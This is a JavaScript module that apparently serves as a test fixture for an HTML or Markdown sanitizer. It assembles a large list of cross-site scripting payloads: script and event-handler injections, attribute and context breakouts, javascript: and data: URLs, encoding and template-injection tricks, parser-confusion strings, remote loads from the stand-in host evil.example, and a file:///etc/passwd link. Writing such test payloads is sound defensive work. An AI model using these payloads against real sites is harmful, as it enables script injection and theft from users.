/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * payloads.mjs - texts that would like to become programs: every way we know
 * from data to markup, put together from parts. Each calls mark(), which the
 * test looks for, or asks another host.
 */
const run = "window.pwned=1;alert(1)";
const away = "//evil.example/x";

const elements = [
	`<script>${run}</script>`, `<SCRIPT SRC=${away}></SCRIPT>`,
	`<script/x>${run}</script>`, `<<script>${run}//<</script>`,
	`<scr<script>ipt>${run}</scr</script>ipt>`, `<script>${run}`,
	`<script type=module>${run}</script>`,
	`<svg><script>${run}</script></svg>`,
	`<svg><script href="data:,${run}"/></svg>`,
	`<math><mtext><script>${run}</script>`,
	`<iframe src="${away}"></iframe>`, `<iframe srcdoc="<script>${run}</script>">`,
	`<object data="${away}"></object>`, `<embed src="${away}">`,
	`<link rel=stylesheet href="${away}">`, `<link rel=import href="${away}">`,
	`<link rel=dns-prefetch href="${away}">`, `<link rel=preload as=script href="${away}">`,
	`<meta http-equiv=refresh content="0;url=${away}">`,
	`<meta http-equiv=set-cookie content="a=b">`, `<base href="${away}">`,
	`<style>@import "${away}";</style>`,
	`<style>*{background:url(${away})}</style>`,
	`<form action="${away}"><input name=q autofocus>`,
	`<button formaction="javascript:${run}">x</button>`,
	`<input type=image src="${away}">`, `<isindex action="javascript:${run}">`,
	`<template><script>${run}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${run}>">`,
	`<frameset onload=${run}>`, `<applet code="${away}">`,
	`<bgsound src="${away}">`, `<portal src="${away}">`,
	`<x onclick=${run} tabindex=1 id=x autofocus onfocus=${run}>`,
	`<dialog open onclose=${run}><form method=dialog><button autofocus>`,
	`<img src="${away}">`, `<picture><source srcset="${away}"><img src=x></picture>`,
	`<video src="${away}" autoplay>`, `<audio src="${away}">`,
	`<table background="${away}">`, `<body background="${away}">`,
	`<svg><image href="${away}"/></svg>`, `<svg><use href="${away}#x"/></svg>`,
	`<svg><a href="javascript:${run}"><text y=9>x</text></a></svg>`,
	`<svg><animate attributeName=href values="javascript:${run}">`,
	`<svg><set attributeName=onmouseover to="${run}">`,
	`<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
	`<math href="javascript:${run}">x</math>`,
	`<a href="javascript:${run}">x</a>`, `<area href="javascript:${run}">`,
	`<details open ontoggle=${run}>`, `<marquee onstart=${run}>`,
	`<textarea autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`,
	`<keygen autofocus onfocus=${run}>`, `<video><source onerror=${run}>`,
	`<style onload=${run}></style>`, `<link rel=stylesheet href=x onerror=${run}>`,
];

/* Out of the place where the text stands, into markup. */
const openings = ["", "\"", "'", "\">", "'>", "`>", "</title>", "</textarea>",
	"</script>", "</style>", "-->", "]]>", "*/", "</h1></header>"];
const handlers = ["onerror", "onload", "onmouseover", "onfocus", "onpointerenter",
	"onanimationstart", "onbeforetoggle", "oncontentvisibilityautostatechange"];
const breakouts = openings.flatMap((open) => [
	`${open}<img src=x onerror=${run}>`,
	`${open}<svg/onload=${run}>`,
	`${open} autofocus onfocus=${run} x=`,
	`${open}<input autofocus onfocus="${run}">`,
]).concat(handlers.map((name) => `" ${name}="${run}" x="`),
	handlers.map((name) => `' ${name}='${run}' x='`),
	handlers.map((name) => `<img src=x\t${name}\n=\n${run}>`));

/* Addresses, in Markdown and as they are. */
const schemes = [`javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`,
	`javascript&colon;${run}`, `&#106;avascript:${run}`,
	`&#x6a&#x61vascript:${run}`, `\x01javascript:${run}`, ` javascript:${run}`,
	`javascript://x%0a${run}`, `vbscript:${run}`, `data:text/html,<script>${run}</script>`,
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"data:image/svg+xml,<svg onload=alert(1)>", away, "/\\evil.example/x",
	"\\\\evil.example/x", "///evil.example/x", "https:evil.example",
	"http:///evil.example", "blob:https://evil.example/1",
	"view-source:https://evil.example", "filesystem:https://evil.example/x",
	"feed:javascript:alert(1)", "jar:https://evil.example!/x", "file:///etc/passwd",
	"intent://evil.example#Intent;end", "ms-word:ofe|u|https://evil.example"];
const links = schemes.flatMap((url) => [`[x](${url})`, `![x](${url})`,
	`[x](<${url}>)`, `<${url}>`]).concat(schemes.slice(0, 8).flatMap((url) => [
	`[x][1]\n\n[1]: ${url}`, `[x](/a "\\" onmouseover=${run} \\"")`,
	`[a](/x) [b](${url} 'x')`]));

/* Encodings, templates, scripts inside scripts, order of letters. */
const odd = ["{{{q}}}", "{{&q}}", "{{=<% %>=}}<%& q %>", "{{#q}}{{{.}}}{{/q}}",
	"{{>head}}", "{%raw%}", "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>",
	"{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]",
	"&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
	"&#60;img src=x onerror=alert(1)&#62;", "&#x3c;svg onload=alert(1)&#x3e;",
	"%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
	"\\x3cimg src=x onerror=alert(1)\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"\u00bcscript\u00bealert(1)\u00bc/script\u00be", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
	"\u2039img src=x onerror=alert(1)\u203a", "\u202e>tpircs/<)1(trela>tpircs<",
	"\u2066<img src=x onerror=alert(1)>\u2069", "\u200b<scr\u200bipt>alert(1)</script>",
	"<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>",
	"<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
	"\",\"x\":\"</script><script>alert(1)</script>", "\u2028alert(1)//", "\u2029alert(1)//",
	"</script><!--<script>", "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\">",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=alert(1)&gt;\">",
	"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
	"<noembed><style></noembed><img src=x onerror=alert(1)>",
	"<select><template><style><!--</style><a rel=\"--></style><img src=x onerror=alert(1)>\">",
	"```\n</code></pre><script>alert(1)</script>\n```", "`</code><script>alert(1)</script>`",
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |", "# <img src=x onerror=alert(1)>",
	"expression(alert(1))", "x:expression(alert(1))", "behavior:url(x.htc)",
	"@import'//evil.example/x';", "background:url(javascript:alert(1))"];

export const payloads = [...new Set([...elements, ...breakouts, ...links, ...odd])];
